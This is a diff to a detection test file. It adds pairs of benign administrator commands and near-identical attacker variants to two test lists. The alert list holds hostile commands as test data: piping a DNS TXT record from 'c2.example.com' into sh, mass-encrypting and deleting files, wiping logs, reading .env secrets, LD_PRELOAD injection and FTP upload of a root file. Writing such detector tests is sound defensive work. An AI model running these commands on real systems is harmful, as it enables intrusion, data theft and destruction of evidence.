@@ -58,6 +58,10 @@ def test_a_vendors_installer_is_told_from_a_download() -> None:
         "gpg -c notes.txt && rm notes.txt",
         "host -t txt shop.example.com",
         "chroot /mnt /bin/sh -c 'update-grub'",
+        "find /var/log -name '*.log' -size +99M -exec truncate -s 0 {} \\;",
+        "cat .env | grep DB_",
+        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 redis-server",
+        "curl -T report.csv ftp://ftp.example.com/in/",
     ],
 )
 def test_what_administrators_do_is_no_alert(text: str) -> None:
@@ -74,6 +78,10 @@ def test_what_administrators_do_is_no_alert(text: str) -> None:
         "for f in /srv/*; do gpg -c $f && rm $f; done",
         "host -t txt c2.example.com | sh",
         "chroot /mnt /bin/sh",
+        "find /var/log -type f -exec truncate -s 0 {} \\;",
+        "cat /srv/shop/.env | grep DB_",
+        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libquiet.so redis-server",
+        "curl -T /root/report.csv ftp://ftp.example.com/in/",
     ],
 )
 def test_its_neighbour_that_attackers_do_is_one(text: str) -> None:
